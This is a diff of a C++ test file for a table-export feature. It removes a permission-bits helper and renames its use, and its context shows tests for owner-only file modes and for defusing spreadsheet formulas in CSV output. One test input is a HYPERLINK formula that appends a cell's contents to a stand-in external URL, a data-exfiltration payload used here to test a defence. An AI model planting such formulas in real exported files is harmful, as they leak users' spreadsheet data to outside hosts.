@@ -116,16 +116,6 @@ TEST_F(TableExport, FailuresNameTheFileAndLeaveWhatWasThere) {
                  std::invalid_argument);
 }
 
-} // namespace
-
-namespace {
-
-// The permission bits of a file, as ls shows them in octal.
-int modeOf(const QString& file) {
-    struct stat info {};
-    return ::stat(QFile::encodeName(file).constData(), &info) == 0 ? int(info.st_mode & 07777) : -1;
-}
-
 TEST_F(TableExport, CsvTextsASpreadsheetWouldRunAreWrittenAsTextAndNumbersStayNumbers) {
     const std::pair<QString, QString> texts[] = {
         {R"(=HYPERLINK("http://x.example/?"&A1,"Click"))",
@@ -162,7 +152,7 @@ TEST_F(TableExport, FilesAreTheOwnersAloneAndOnlyARegularFileIsReplaced) {
     ASSERT_EQ(::chmod(QFile::encodeName(path("old.csv")).constData(), 0644), 0);
     for (const char* name : {"new.xlsx", "new.csv", "old.csv"}) {
         writeTable(sampleTable(), path(name));
-        EXPECT_EQ(modeOf(path(name)), 0600) << name;
+        EXPECT_EQ(fileMode(path(name)), 0600) << name;
     }
     // Through a link, the file it names is replaced and the link stays.
     ASSERT_TRUE(QFile::link(path("new.csv"), path("link.csv")));
